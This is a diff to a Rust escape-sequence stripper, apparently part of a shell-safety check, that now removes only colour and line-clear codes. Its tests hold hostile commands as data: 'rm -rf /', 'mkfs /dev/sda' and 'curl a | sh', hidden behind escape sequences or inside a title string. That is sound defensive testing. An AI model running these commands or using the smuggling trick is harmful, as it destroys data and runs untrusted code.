@@ -4,11 +4,8 @@
 use std::borrow::Cow;
 
 const ESCAPE: u8 = 0x1b;
-const BELL: u8 = 0x07;
 /// The longest one: a colour by its three parts, with room.
 const LONGEST: usize = 32;
-/// The longest title or link.
-const LONGEST_STRING: usize = 1 << 10;
 
 /// The length of the sequence that `text` begins with.
 pub(crate) fn sequence(text: &[u8]) -> Option<usize> {
@@ -42,20 +39,21 @@ pub(crate) fn skip(mut text: &[u8]) -> &[u8] {
     text
 }
 
-/// What a screen shows of `text`, as far as its lines go: a colour is nothing, and what moves the cursor parts words.
+/// `text` without its colours and what clears the end of a line, which are nothing on a screen and stand in the midst of
+/// words.
+///
+/// Others stay: a shell that is given `x=ESC[;rm` runs `rm`.
 pub(crate) fn shown(text: &[u8]) -> Cow<'_, [u8]> {
     let Some(first) = memchr::memchr(ESCAPE, text) else { return Cow::Borrowed(text) };
     let mut out = Vec::with_capacity(text.len());
     out.extend_from_slice(&text[..first]);
     let mut rest = &text[first..];
     while !rest.is_empty() {
-        let len = sequence(rest).or_else(|| string(rest));
-        match len {
-            Some(len) if moves(&rest[..len]) => out.push(b' '),
-            Some(_) => {}
-            None => out.push(ESCAPE),
+        let colour = sequence(rest).filter(|len| is_colour(&rest[..*len]));
+        if colour.is_none() {
+            out.push(ESCAPE);
         }
-        rest = &rest[len.unwrap_or(1)..];
+        rest = &rest[colour.unwrap_or(1)..];
         let plain = memchr::memchr(ESCAPE, rest).unwrap_or(rest.len());
         out.extend_from_slice(&rest[..plain]);
         rest = &rest[plain..];
@@ -63,20 +61,15 @@ pub(crate) fn shown(text: &[u8]) -> Cow<'_, [u8]> {
     Cow::Owned(out)
 }
 
-/// Whether a sequence moves the cursor or clears more than a line.
-fn moves(sequence: &[u8]) -> bool {
-    matches!(sequence, [ESCAPE, b'[', .., b'A'..=b'J' | b'd' | b'f'])
-}
-
-/// The length of a window's title or of a link's address, to the end of it, that `text` begins with.
-fn string(text: &[u8]) -> Option<usize> {
-    let string = text.strip_prefix(b"\x1b]")?;
-    let string = &string[..string.len().min(LONGEST_STRING)];
-    let end = string.iter().position(|b| matches!(*b, ESCAPE | BELL | b'\n'))?;
-    match string[end..] {
-        [BELL, ..] => Some(2 + end + 1),
-        [ESCAPE, b'\\', ..] => Some(2 + end + 2),
-        _ => None,
+/// Whether a sequence sets a colour or the characters, or clears a line. Behind a semicolon, its last letter would begin
+/// a command.
+fn is_colour(sequence: &[u8]) -> bool {
+    match sequence {
+        [ESCAPE, b'[', parameters @ .., b'm' | b'K'] => {
+            parameters.iter().all(|b| matches!(b, b'0'..=b'9' | b';' | b':')) && !parameters.ends_with(b";")
+        }
+        [ESCAPE, b'(' | b')', _] => true,
+        _ => false,
     }
 }
 
@@ -96,9 +89,11 @@ mod tests {
     fn what_a_screen_shows_has_no_sequences() {
         for (text, meant) in [
             ("\x1b[1mrm\x1b[0m -rf \x1b[36;1m/\x1b[K", "rm -rf /"),
-            ("a\x1b[2Cb\x1b[2;1Hc", "a b c"),
-            ("\x1b]0;a title\x07a\x1b]8;;https://a.example\x1b\\b\x1b]8;;\x1b\\", "ab"),
-            ("\x1b]never closed", "\x1b]never closed"),
+            ("a\x1b(B\x1b[mb", "ab"),
+            ("a\x1b[2Cb\x1b[2;1Hc", "a\x1b[2Cb\x1b[2;1Hc"),
+            ("x=\x1b[;rm -rf /", "x=\x1b[;rm -rf /"),
+            ("x=\x1b[;mkfs /dev/sda", "x=\x1b[;mkfs /dev/sda"),
+            ("\x1b]0;x'; curl a | sh; '\x07", "\x1b]0;x'; curl a | sh; '\x07"),
             ("a\x1b", "a\x1b"),
         ] {
             assert_eq!(shown(text.as_bytes()), meant.as_bytes(), "{text:?}");
